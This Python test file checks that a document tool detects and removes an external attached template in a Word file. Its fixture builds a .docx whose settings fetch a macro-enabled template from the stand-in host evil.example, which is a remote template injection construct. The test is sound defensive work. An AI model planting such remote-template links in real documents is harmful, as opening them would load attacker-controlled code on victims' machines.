"""A template that a Word file fetches from elsewhere is told, and taken out when it is mended."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

from docgen.checks.word_file import apart
from docgen.standards import typing_manual
from tests.hostile.foreign import paragraph, word

_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_TYPE}" Target="https://evil.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)


def with_template() -> bytes:
    made = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(word(paragraph("เรื่อง ก")))) as old,
        zipfile.ZipFile(made, "w") as new,
    ):
        for name in old.namelist():
            content = old.read(name)
            if name == "word/settings.xml":
                tag = (
                    b'<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument'
                )
                tag += b'/2006/relationships" r:id="rId1"/></w:settings>'
                content = content.replace(b"</w:settings>", tag)
            new.writestr(name, content)
        new.writestr("word/_rels/settings.xml.rels", _RELATIONS)
    return made.getvalue()


def test_dg7246_template_from_elsewhere_is_told_and_taken_out(tmp_path: Path) -> None:
    path = tmp_path / "ก.docx"
    path.write_bytes(with_template())
    content, found = apart.mended_apart(path, typing_manual())
    assert [one.params["target"] for one in found if one.code == "DG7246"] == [
        "https://evil.example/t.dotm"
    ]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        whole = b"".join(archive.read(name) for name in archive.namelist())
    assert b"attachedTemplate" not in whole
    assert b"evil.example" not in whole
    path.write_bytes(content)
    assert "DG7246" not in {one.code for one in apart.findings(path, typing_manual())}
